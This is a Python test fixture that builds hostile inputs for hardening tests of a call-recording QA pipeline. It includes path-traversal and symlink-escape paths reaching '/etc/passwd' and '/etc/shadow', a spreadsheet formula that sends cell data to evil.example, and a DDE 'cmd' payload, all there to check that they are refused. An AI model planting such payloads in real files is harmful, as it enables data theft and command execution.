"""A hostile night for the hardening tests and benchmarks/hardening.py.

`build_world` makes a recordings folder (a few real sample calls full of personal data, every
kind of bad recording, links pointing out of the folder) and a call log for the demo night
that points at all of it, with hostile call ids, formula values and bad rows. Every night is
a real `callqa nightly` subprocess against one real Prefect API (the tests' session server, or
`PrefectServer` in the benchmark), so a SIGKILLed run leaves no orphaned temporary server.
"""

from __future__ import annotations

import csv
import os
import shutil
import signal
import socket
import subprocess
import time
import urllib.request
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

from hardening.audio import BAD_RECORDINGS, decode, encode
from pipeline.calls import CALL_LOG_COLUMNS

ROOT = Path(__file__).resolve().parents[2]
SAMPLE_RECORDINGS = ROOT / "sample_data" / "recordings"
SAMPLE_SCRIPTS = ROOT / "sample_data" / "scripts"
PYTHON = ROOT / ".venv" / "bin" / "python"
CALLQA = ROOT / ".venv" / "bin" / "callqa"
NIGHT = date(2025, 3, 31)

#: Real calls, chosen so that every personal-data type and the mono path are exercised.
REAL_CALLS = (
    "housing_options_eviction",
    "ben_new_claim",
    "online_payment_error",
    "ct_direct_debit",
    "other_electoral_register",
)
#: The runs that are killed and re-run screen the first seconds of these calls (kept short:
#: the suite kills and re-runs a night four times).
SMALL_CALLS = ("waste_collection_day", "libraries_renewal")
SMALL_CLIP_S = 12.0
#: Bad recordings that cost (almost) nothing to screen.
CHEAP_BAD = (
    "empty",
    "truncated_wav",
    "not_audio",
    "png",
    "directory",
    "zero_length_stereo",
    "video_only",
    "half_second",
    "silence",
    "dtmf",
    "hold_music",
)
#: Recording paths that must be refused (never read), and why.
HOSTILE_PATHS = {
    "dotdot": "../outside/secret.opus",
    "deep_dotdot": "inside/../../outside/secret.opus",
    "absolute": "/etc/passwd",
    "absolute_outside": "{outside}/secret.opus",
    "link_out": "link_out.opus",
    "dir_link_out": "link_dir/secret.opus",
    "windows_drive": "C:\\calls\\secret.wav",
    "unc": "\\\\server\\share\\secret.wav",
    "backslash_dotdot": "..\\outside\\secret.opus",
    "nul": "good\x00.opus",
    "missing": "missing_file.opus",
}
#: Recording paths that crashed the whole night when this suite was written (see the report in
#: test_hardening_paths.py); they get a night of their own so the other tests still run.
CRASHING_PATHS = {
    "very_long": "a/" * 2100 + "x.opus",
    "long_name": "x" * 300 + ".opus",
    "dot": ".",
    "symlink_loop": "loop.opus",
}
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+447700900999",
    "-1+1",
)


@dataclass
class World:
    """Everything a hostile night reads."""

    root: Path
    recordings: Path
    outside: Path
    calls: Path
    small_calls: Path
    crash_calls: Path
    tiny_calls: Path
    #: call_id -> what it is ("real:<script>", "bad:<kind>", "path:<kind>")
    kinds: dict[str, str] = field(default_factory=dict)
    small_kinds: dict[str, str] = field(default_factory=dict)
    crash_kinds: dict[str, str] = field(default_factory=dict)
    caller_numbers: list[str] = field(default_factory=list)
    bad_rows: int = 0

    def log(self, name: str) -> Path:
        """The call log called `name`: full, small, crash or tiny."""
        return {
            "small": self.small_calls, "crash": self.crash_calls, "tiny": self.tiny_calls,
        }.get(name, self.calls)  # fmt: skip


def _scripts() -> dict[str, dict]:
    import yaml

    return {p.stem: yaml.safe_load(p.read_text()) for p in sorted(SAMPLE_SCRIPTS.glob("*.yaml"))}


def build_world(root: Path) -> World:
    """The recordings folder, a folder outside it, and two call logs for the demo night."""
    recordings = root / "recordings"
    outside = root / "outside"
    recordings.mkdir(parents=True)
    outside.mkdir()
    # What a refused path would reach: a real call, so reading it would show up as a transcript.
    shutil.copy(SAMPLE_RECORDINGS / "ct_direct_debit.opus", outside / "secret.opus")
    os.utime(outside / "secret.opus", (0, time.time()))  # atime 0: any read would move it
    (recordings / "link_out.opus").symlink_to(outside / "secret.opus")
    (recordings / "link_dir").symlink_to(outside, target_is_directory=True)
    (recordings / "inside").mkdir()
    shutil.copy(SAMPLE_RECORDINGS / "corrupt_recording.wav", recordings / "corrupt_recording.wav")

    scripts = _scripts()
    world = World(
        root, recordings, outside, root / "calls.csv", root / "small_calls.csv",
        root / "crash_calls.csv", root / "tiny_calls.csv",
    )  # fmt: skip
    rows: list[dict[str, str]] = []
    small: list[dict[str, str]] = []

    def row(call_id: str, minute: int, recording: str, **extra: str) -> dict[str, str]:
        number = f"07700 900{minute % 1000:03d}"
        world.caller_numbers.append(number)
        return {
            "call_id": call_id,
            "started_at": f"2025-03-31T{9 + minute // 60:02d}:{minute % 60:02d}:00",
            "duration_s": "60",
            "agent_id": f"agent_{minute % 4}",
            "team": "customer_services",
            "queue": "council_tax",
            "caller_number": number,
            "direction": "inbound",
            "recording": recording,
            "channel_layout": "",
        } | extra

    minute = 0
    for name in (*REAL_CALLS, *SMALL_CALLS):
        script = scripts[name]
        audio = decode(SAMPLE_RECORDINGS / f"{name}.opus")
        if name in SMALL_CALLS:
            audio = audio[:, : int(SMALL_CLIP_S * 8000)]
            file = encode(recordings / f"{name}_clip.wav", audio).name
        else:
            file = f"{name}.opus"
            shutil.copy(SAMPLE_RECORDINGS / file, recordings / file)
        minute += 1
        fields = row(
            script["call_id"],
            minute,
            file,
            # As a phone system logs it: a real call's recording is as long as the call (a
            # recording much shorter than the log says is a recording fault).
            duration_s=f"{audio.shape[1] / 8000:.1f}",
            agent_id=script["agent_id"],
            team=script["team"],
            queue=script["queue"],
            caller_number=script["caller_number"],
            channel_layout=script["layout"],
        )
        world.caller_numbers.append(script["caller_number"])
        if name in SMALL_CALLS:
            small.append(fields)
            world.small_kinds[fields["call_id"]] = f"real:{name}"
        else:
            rows.append(fields)
            world.kinds[fields["call_id"]] = f"real:{name}"
    # Formula values in the columns that reach scorecards and reports.
    rows[0]["team"] = INJECTIONS[0]
    rows[1]["agent_id"] = INJECTIONS[1]
    rows[2]["queue"] = INJECTIONS[2]

    for kind in CHEAP_BAD:
        build, _ = BAD_RECORDINGS[kind]
        path = build(SAMPLE_RECORDINGS, recordings)
        minute += 1
        rows.append(row(f"BAD-{kind}", minute, path.name))
        world.kinds[f"BAD-{kind}"] = f"bad:{kind}"
    minute += 1
    rows.append(row("BAD-corrupt", minute, "corrupt_recording.wav"))
    world.kinds["BAD-corrupt"] = "bad:corrupt"
    for kind, path in HOSTILE_PATHS.items():
        minute += 1
        rows.append(row(f"PATH-{kind}", minute, path.format(outside=outside)))
        world.kinds[f"PATH-{kind}"] = f"path:{kind}"
    # Hostile call ids on refused recordings: ids must never become file names or formulas.
    for call_id, path in (("=cmd|' /C calc'!A0", "/etc/shadow"), ("../../escaped_id", "../x")):
        minute += 1
        rows.append(row(call_id, minute, path))
        world.kinds[call_id] = "path:hostile_id"

    crash = []
    for kind, path in CRASHING_PATHS.items():
        minute += 1
        crash.append(row(f"CRASH-{kind}", minute, path))
        world.crash_kinds[f"CRASH-{kind}"] = f"path:{kind}"
    (recordings / "loop.opus").symlink_to("loop.opus")

    # Unrecorded calls of the night and of the week before (the population, repeat callers).
    extra = [
        row(f"U{i:03d}", i, "", started_at=f"2025-03-{24 + i % 8:02d}T1{i % 8}:{i % 60:02d}:00")
        for i in range(40)
    ]
    # Bad rows the reader must reject (row number + reason), not crash on.
    bad = [
        row("R-gap", 1, "", started_at="2025-03-30T01:30:00"),
        row("R-date", 2, "", started_at="31/02/2025 10:00"),
        row("R-dur", 3, "", duration_s="=1+1"),
        row("U000", 4, ""),  # duplicate id
        row("R-dir", 5, "", direction=INJECTIONS[3]),
    ]
    world.bad_rows = len(bad)
    _write_log(world.calls, [*rows, *extra, *bad])
    _write_log(world.small_calls, [*small, *rows[len(REAL_CALLS) : len(REAL_CALLS) + 3], *extra])
    # One good call beside them: a night that screens no call at all is a failed night
    # (pipeline/runs.py), and these paths must fail only their own calls.
    _write_log(world.crash_calls, [*crash, small[0], *extra])
    # No speech to recognise: for the runs that only test how writes and set-up fail.
    tiny = [r for r in rows if r["call_id"] in ("BAD-not_audio", "BAD-silence", "PATH-dotdot")]
    _write_log(world.tiny_calls, [*tiny, *extra])
    for r in rows[len(REAL_CALLS) : len(REAL_CALLS) + 3]:
        world.small_kinds[r["call_id"]] = world.kinds[r["call_id"]]
    return world


def _write_log(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=CALL_LOG_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)


# -- a real Prefect server ----------------------------------------------------------------


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def base_env(home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PREFECT_", "CALLQA_"))}
    return env | {
        "PREFECT_HOME": str(home),
        "PREFECT_SERVER_EPHEMERAL_STARTUP_TIMEOUT_SECONDS": "120",
        "PREFECT_SERVER_ANALYTICS_ENABLED": "false",
        "PREFECT_UI_ENABLED": "false",
        "DO_NOT_TRACK": "1",
        "PYTHONUNBUFFERED": "1",
        "COLUMNS": "200",
    }


class PrefectServer:
    """`prefect server start` on a free port with its own PREFECT_HOME; stopped by its PID."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}/api"
        self.log = home / "server.log"
        self.process: subprocess.Popen[bytes] | None = None

    @property
    def database(self) -> Path:
        return self.home / "prefect.db"

    def env(self) -> dict[str, str]:
        return base_env(self.home) | {"PREFECT_API_URL": self.url}

    def __enter__(self) -> PrefectServer:
        self.home.mkdir(parents=True, exist_ok=True)
        with self.log.open("wb") as log:
            self.process = subprocess.Popen(
                [str(PYTHON), "-m", "prefect", "server", "start", "--host", "127.0.0.1",
                 "--port", str(self.port)],
                env=base_env(self.home), stdout=log, stderr=subprocess.STDOUT,
            )  # fmt: skip
        deadline = time.monotonic() + 180
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"prefect server exited: {self.log.read_text()[-2000:]}")
            try:
                with urllib.request.urlopen(f"{self.url}/health", timeout=2) as answer:
                    if answer.status == 200:
                        return self
            except OSError:
                time.sleep(0.5)
        self.__exit__()
        raise RuntimeError("prefect server did not answer within 180 s")

    def __exit__(self, *exc: object) -> None:
        if self.process is not None and self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()


# -- running a night ------------------------------------------------------------------------


def nightly_command(
    calls: Path, recordings: Path, out: Path, *, sample_size: int = 500
) -> list[str]:
    """`callqa nightly` for the demo night, drawing every recorded call (the population is small)."""
    return [str(CALLQA), "nightly", "--calls", str(calls), "--recordings", str(recordings),
            "--out", str(out), "--date", NIGHT.isoformat(), "--sample-size", str(sample_size),
            "--seed", "7"]  # fmt: skip


@dataclass
class NightRun:
    returncode: int
    stdout: str
    stderr: str
    elapsed_s: float
    out: Path


def run_night(
    world: World,
    out: Path,
    env: dict[str, str],
    *,
    log: str = "full",
    timeout: float = 600,
) -> NightRun:
    calls = world.log(log)
    started = time.monotonic()
    done = subprocess.run(
        nightly_command(calls, world.recordings, out),
        env=env, capture_output=True, text=True, timeout=timeout, cwd=ROOT,
    )  # fmt: skip
    return NightRun(done.returncode, done.stdout, done.stderr, time.monotonic() - started, out)


def start_night(world: World, out: Path, env: dict[str, str], *, log: str = "small"):
    calls = world.log(log)
    return subprocess.Popen(
        nightly_command(calls, world.recordings, out), env=env, cwd=ROOT,
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip


#: Kill points of a night, each a file that appears at that stage (relative to --out).
KILL_POINTS = {
    "after_sample": "samples/call_date=2025-03-31/part-0.parquet",
    "mid_transcription": "restricted/.cache",
    "during_writes": "transcripts/call_date=2025-03-31/part-0.parquet",
}


def kill_when(process: subprocess.Popen, out: Path, marker: str, timeout: float = 300) -> bool:
    """SIGKILL the night (its whole process group) as soon as `marker` appears under `out`.

    Returns False when the night finished before the marker appeared (nothing was killed).
    """
    target = out / marker
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        ready = target.exists() and (not target.is_dir() or any(target.glob("*.json")))
        if ready:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
            return True
        if process.poll() is not None:
            return False
        time.sleep(0.005)
    os.killpg(process.pid, signal.SIGKILL)
    process.wait()
    raise TimeoutError(f"{marker} did not appear within {timeout} s")


def kill_after(process: subprocess.Popen, seconds: float) -> bool:
    """SIGKILL the night after `seconds`; False when it had already finished."""
    try:
        process.wait(timeout=seconds)
        return False
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        return True


def after_night(out: Path, pack: Path, recordings: Path, env: dict[str, str]) -> NightRun:
    """`callqa scrutiny-sample` (every scored call of the night) then `callqa report` on `out`."""
    started = time.monotonic()
    commands = [
        [str(CALLQA), "scrutiny-sample", "--out", str(out), "--pack", str(pack), "--from",
         NIGHT.isoformat(), "--to", NIGHT.isoformat(), "--size", "50", "--seed", "3",
         "--recordings", str(recordings)],
        [str(CALLQA), "report", "--out", str(out), "--month", NIGHT.strftime("%Y-%m")],
    ]  # fmt: skip
    stdout = stderr = ""
    returncode = 0
    for command in commands:
        done = subprocess.run(
            command, env=env, capture_output=True, text=True, timeout=600, cwd=ROOT
        )
        stdout, stderr = stdout + done.stdout, stderr + done.stderr
        returncode = returncode or done.returncode
    return NightRun(returncode, stdout, stderr, time.monotonic() - started, pack)


@dataclass
class SharedNight:
    """The session's hostile night: its inputs, the finished runs (the night, then a scrutiny
    pack and the month's report on it), and where Prefect keeps its state."""

    world: World
    run: NightRun
    after: NightRun
    pack: Path
    env: dict[str, str]
    prefect_home: Path
    prefect_database: Path


def shared_night(root: Path, prefect_server: tuple[str, Path, Path]) -> SharedNight:
    """Build the world, run one night on it, then a scrutiny pack and the monthly report."""
    url, database, home = prefect_server
    world = build_world(root)
    env = base_env(home) | {"PREFECT_API_URL": url}
    run = run_night(world, root / "out", env)
    pack = root / "pack"
    after = after_night(run.out, pack, world.recordings, env)
    return SharedNight(world, run, after, pack, env, home, database)


def fill(folder: Path) -> Path:
    """Fill the file system under `folder` to the last byte."""
    ballast = folder / "ballast"
    fd = os.open(ballast, os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        for size in (65536, 4096, 1):
            while True:
                try:
                    os.write(fd, b"\0" * size)
                except OSError:
                    break
    finally:
        os.close(fd)
    return ballast
